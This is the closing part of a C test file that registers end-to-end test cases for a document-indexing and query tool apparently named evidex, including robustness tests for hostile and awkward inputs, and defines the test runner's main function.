    tcase_add_test (tc, test_show_and_stats);
    tcase_add_test (tc, test_policy_commitments);
    tcase_add_test (tc, test_query_fields_and_output);
    tcase_add_test (tc, test_second_ingest_indexes_nothing);
    tcase_add_test (tc, test_changed_file_replaces_passages);
    tcase_add_test (tc, test_awkward_inputs);
    tcase_add_test (tc, test_help_and_usage);
    tcase_add_test (tc, test_missing_index_and_bad_query);
    tcase_add_test (tc, test_locked_index);
    tcase_add_test (tc, test_db_not_evidex);
    tcase_add_test (tc, test_closed_pipe_not_fatal);
    tcase_add_test (tc, test_write_error_reason);
    tcase_add_test (tc, test_closed_descriptors);
    tcase_add_test (tc, test_double_dash);
    tcase_add_test (tc, test_formats_and_report);
    tcase_add_test (tc, test_csv_formula_cells);
    tcase_add_test (tc, test_without_passages_shown);
    tcase_add_test (tc, test_quiet_silent_unless_failure);
    tcase_add_test (tc, test_report_targets);
    tcase_add_test (tc, test_html5_page_quiet);
    tcase_add_test (tc, test_hostile_inputs);
    tcase_add_test (tc, test_external_corpus);
    suite_add_tcase (s, tc);
    return s;
}

int
main (void)
{
    return evx_test_main (e2e_suite ());
}
